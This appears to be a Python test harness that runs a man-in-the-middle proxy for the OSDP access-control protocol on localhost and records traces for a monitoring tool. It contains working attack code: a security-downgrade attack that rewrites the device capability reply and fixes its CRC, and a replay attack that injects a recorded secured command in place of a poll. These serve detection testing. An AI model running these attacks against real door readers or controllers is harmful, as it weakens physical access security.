"""A man in the middle for OSDP over TCP, for attack tests: it relays frames between a CP and a
PD, lets an attack rewrite, drop or replace each frame, and records what it delivered as an
.osdpcap trace (libosdp-conformance's JSON lines) for `vigil osdp monitor`."""
import json
import select
import socket
import threading
import time


def crc16(data):
    """OSDP's CRC-16 (v2.2 Annex B: polynomial 0x1021, initial value 0x1D0F)."""
    crc = 0x1D0F
    for byte in data:
        crc ^= byte << 8
        for _ in range(8):
            crc = ((crc << 1) ^ 0x1021) if crc & 0x8000 else crc << 1
            crc &= 0xFFFF
    return crc


class Frame:
    """One OSDP frame as relayed: mark byte (if any) through CRC."""

    def __init__(self, raw):
        self.raw = bytearray(raw)
        self.som = 1 if raw[0] == 0xFF else 0

    @property
    def is_reply(self):
        return bool(self.raw[self.som + 1] & 0x80)

    @property
    def control(self):
        return self.raw[self.som + 4]

    @property
    def sequence(self):
        return self.control & 0x03

    @property
    def security_block(self):
        return self.raw[self.som + 6] if self.control & 0x08 else None

    @property
    def code_index(self):
        return self.som + 5 + (self.raw[self.som + 5] if self.control & 0x08 else 0)

    @property
    def code(self):
        return self.raw[self.code_index]

    def fix_crc(self):
        crc = crc16(self.raw[self.som:-2])
        self.raw[-2], self.raw[-1] = crc & 0xFF, crc >> 8


def split_frames(buffer):
    """Complete frames at the front of `buffer` (a bytearray), removed from it."""
    frames = []
    while True:
        som = buffer.find(b"\x53")
        if som < 0 or len(buffer) - som < 5:
            return frames
        length = buffer[som + 2] | buffer[som + 3] << 8
        if len(buffer) - som < length:
            return frames
        start = som - 1 if som > 0 and buffer[som - 1] == 0xFF else som
        frames.append(Frame(bytes(buffer[start:som + length])))
        del buffer[:som + length]


class Proxy:
    """Listens on `listen_port` for the CP, connects to the PD at `target_port`, relays frames.
    `attack(frame, proxy)` returns the frames to deliver instead (a list; empty drops it)."""

    def __init__(self, listen_port, target_port, trace_path, attack=None):
        self.target_port = target_port
        self.attack = attack or (lambda frame, proxy: [frame])
        self.trace = open(trace_path, "w")
        self.server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind(("127.0.0.1", listen_port))
        self.server.listen(1)
        self.stopped = False
        self.notes = []
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _connect_target(self):
        deadline = time.time() + 10
        while True:
            try:
                return socket.create_connection(("127.0.0.1", self.target_port), timeout=1.0)
            except OSError:
                if time.time() > deadline:
                    raise
                time.sleep(0.05)

    def _run(self):
        cp, _ = self.server.accept()
        pd = self._connect_target()
        buffers = {cp: bytearray(), pd: bytearray()}
        while not self.stopped:
            ready, _, _ = select.select([cp, pd], [], [], 0.1)
            for sock in ready:
                data = sock.recv(4096)
                if not data:
                    self.stopped = True
                    break
                buffers[sock] += data
                for frame in split_frames(buffers[sock]):
                    for out in self.attack(frame, self):
                        self.deliver(out, to=pd if sock is cp else cp, from_cp=sock is cp)
        for s in (cp, pd, self.server):
            s.close()
        self.trace.close()

    def deliver(self, frame, to, from_cp):
        to.sendall(bytes(frame.raw))
        now = time.time_ns()
        self.trace.write(json.dumps({
            "timeSec": str(now // 1_000_000_000), "timeNano": f"{now % 1_000_000_000:09d}",
            "io": "in" if from_cp else "out", "data": "".join(f" {b:02x}" for b in frame.raw),
            "osdpTraceVersion": "1", "osdpSource": "vigil-mitm"}) + "\n")
        self.trace.flush()

    def stop(self):
        self.stopped = True
        self.thread.join(3)


def downgrade_attack(frame, proxy):
    """Rewrites PDCAP's communication-security entry (function 9) to compliance 0."""
    if frame.is_reply and frame.code == 0x46 and frame.security_block is None:
        data = frame.code_index + 1
        for i in range(data, len(frame.raw) - 2, 3):
            if frame.raw[i] == 9 and frame.raw[i + 1] != 0:
                frame.raw[i + 1] = 0
                frame.fix_crc()
                proxy.notes.append("PDCAP rewritten")
    return [frame]


class ReplayAttack:
    """Records the first secured LED command and, a few commands later, sends it to the PD in
    place of a POLL."""

    def __init__(self, code=0x69, after=6):
        self.code, self.after = code, after
        self.recorded, self.since, self.done = None, 0, False

    def __call__(self, frame, proxy):
        if frame.is_reply:
            return [frame]
        if self.recorded is None and frame.code == self.code and frame.security_block is not None:
            self.recorded = Frame(bytes(frame.raw))
        elif self.recorded is not None:
            self.since += 1
            if not self.done and self.since > self.after and frame.code == 0x60:
                self.done = True
                proxy.notes.append("LED replayed")
                return [Frame(bytes(self.recorded.raw))]
        return [frame]
